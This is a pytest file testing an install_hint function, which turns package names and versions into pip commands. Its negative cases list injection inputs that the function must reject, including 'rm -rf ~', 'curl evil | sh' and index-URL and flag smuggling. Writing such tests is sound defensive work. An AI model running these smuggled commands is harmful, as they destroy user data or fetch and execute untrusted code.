"""A stranger's bundle names packages; what a reader may paste into a shell holds nothing else."""

from __future__ import annotations

import pytest

from llmb.reproduction.install import install_hint


def test_only_torch_has_a_command_because_llmb_knows_of_no_other_package_on_an_index() -> None:
    assert install_hint("torch", "2.13.0") == "pip install torch==2.13.0"
    assert install_hint("llmb-acme", "1.2") == "install llmb-acme 1.2 as its vendor says"
    assert install_hint("llmb", "0.1.0") == "use llmb 0.1.0"


def test_a_build_of_a_version_is_named_apart_because_no_common_index_has_it() -> None:
    assert install_hint("torch", "2.8.0+x128") == "pip install torch==2.8.0 (its build +x128)"


@pytest.mark.parametrize(
    ("distribution", "version"),
    [
        ("llmb; rm -rf ~", "1.2"),
        ("llmb-acme", "1.2 --index-url=evil"),
        ("llmb-acme", "1.2; curl evil | sh"),
        ("-r", "1.2"),
        ("--pre", "1.2"),
        ("git+evil", "1.2"),
        ("a/b", "1.2"),
        ("", "1.2"),
        ("llmb-acme\n", "1.2"),
        ("llmb-acme", "1.2\n"),
        ("llmb-\u0430cme", "1.2"),
        ("llmb-acme", "unknown"),
        ("llmb-acme", ""),
        ("a" * 101, "1.2"),
        ("torch", "2.14.0a0.dev5"),
    ],
)
def test_what_is_no_plain_name_and_version_gives_no_command(
    distribution: str, version: str
) -> None:
    assert install_hint(distribution, version) is None
